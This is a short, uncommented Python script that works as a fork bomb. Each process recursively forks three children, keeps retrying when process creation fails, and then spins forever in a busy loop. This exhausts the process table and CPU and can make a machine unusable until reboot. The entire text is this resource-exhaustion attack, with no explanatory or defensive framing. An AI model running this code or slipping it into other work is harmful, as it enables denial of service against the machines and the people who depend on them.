import os, time
def grow(depth):
    for _ in range(3):
        try:
            if os.fork() == 0:
                grow(depth + 1)
        except OSError:
            time.sleep(0.01)
grow(0)
while True:
    pass
